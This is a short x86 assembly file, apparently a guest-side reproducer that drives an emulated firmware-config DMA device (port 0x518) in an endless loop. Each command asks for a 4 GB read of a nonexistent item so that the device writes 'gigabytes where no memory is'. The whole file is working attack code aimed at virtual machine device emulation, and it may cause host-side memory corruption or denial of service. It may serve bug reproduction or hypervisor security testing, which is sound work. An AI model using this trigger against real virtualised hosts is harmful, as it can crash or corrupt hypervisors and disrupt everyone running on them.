/* endless_copy.S -- one instruction that has a device fill gigabytes where no memory is. */
#include "guest.h"
        .equ    fw_cfg_dma_low, 0x518   /* takes the address of a command, high byte first */
entry:  movl    $command, %eax
        bswapl  %eax
        movw    $fw_cfg_dma_low, %dx
1:      movl    $0x0A00FFFF, command    /* no such file: select and read */
        movl    $0xFFFFFFFF, command + 4
        outl    %eax, %dx
        jmp     1b
        .data
        .align  16
command:
        .long   0, 0, 0, 0x00000002     /* to 32 MB and on */
